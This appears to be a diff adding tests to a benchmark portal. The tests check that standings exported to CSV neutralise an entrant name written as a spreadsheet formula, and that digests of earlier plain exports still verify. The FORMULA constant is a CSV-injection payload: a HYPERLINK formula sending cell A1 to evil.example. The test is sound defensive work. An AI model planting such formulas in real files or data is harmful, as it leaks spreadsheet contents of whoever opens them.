@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 
 import pytest
 import time_machine
 
+from portal.standings.models import Standings
 from portal.submissions.models import Submission
 from tests import factories
 from tests.web.boards import official_run
@@ -69,6 +72,54 @@ def test_publish_is_staff_only_and_the_exports_verify(
     exported = json.loads(client.get(f"{base}standings.json").content)
     assert exported["digest"] == digest and exported["rows"] == body["rows"]
     assert client.get(f"{base}standings.csv").content == csv.content  # stable
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'
+
+
+def test_an_entrant_named_like_a_formula_is_text_in_the_exported_csv(
+    closing, alice, staff, client_for, client, after_close
+):
+    # Opened in a spreadsheet, the standings must not run what an entrant named himself.
+    mallet = factories.UserFactory(username=FORMULA)
+    official_run(closing, mallet, 100)
+    official_run(closing, alice, 200)
+    base = f"/api/v1/benchmarks/{closing.slug}/"
+    with time_machine.travel(after_close, tick=False):
+        published = client_for(staff).post(f"{base}standings/publish/", {"reason": "results"})
+    assert published.status_code == 201, published.content
+
+    exported = client.get(f"{base}standings.csv")
+
+    rows = list(csv.reader(io.StringIO(exported.content.decode())))
+    assert [row[1] for row in rows[1:]] == ["'" + FORMULA, "alice"]
+    digest = "sha256:" + hashlib.sha256(exported.content).hexdigest()
+    assert digest == exported["X-Podium-Digest"] == client.get(f"{base}standings/").json()["digest"]
+    assert client.get(f"{base}standings/").json()["rows"][0]["entrant"] == FORMULA
+
+
+def test_standings_published_before_cells_were_neutralised_still_verify(
+    closing, alice, staff, client_for, client, after_close
+):
+    official_run(closing, factories.UserFactory(username="-2+3"), 100)
+    official_run(closing, alice, 200)
+    base = f"/api/v1/benchmarks/{closing.slug}/"
+    with time_machine.travel(after_close, tick=False):
+        client_for(staff).post(f"{base}standings/publish/", {"reason": "results"})
+    # As published by an earlier version: the digest of the plain CSV.
+    standings = Standings.objects.get(benchmark=closing)
+    plain = "rank,entrant,submission_id,wall_time_ns,runs,tied\n" + "".join(
+        f"{r.rank},{r.entrant},{r.submission_id},{r.wall_time_ns},{r.runs},false\n"
+        for r in standings.rows.order_by("position")
+    )
+    standings.digest = "sha256:" + hashlib.sha256(plain.encode()).hexdigest()
+    standings.save()
+
+    exported = client.get(f"{base}standings.csv")
+
+    assert exported.content.decode() == plain
+    assert "sha256:" + hashlib.sha256(exported.content).hexdigest() == standings.digest
+    assert exported["X-Podium-Digest"] == standings.digest
 
 
 def test_staff_without_the_permission_get_permission_denied(closing, client_for, after_close):
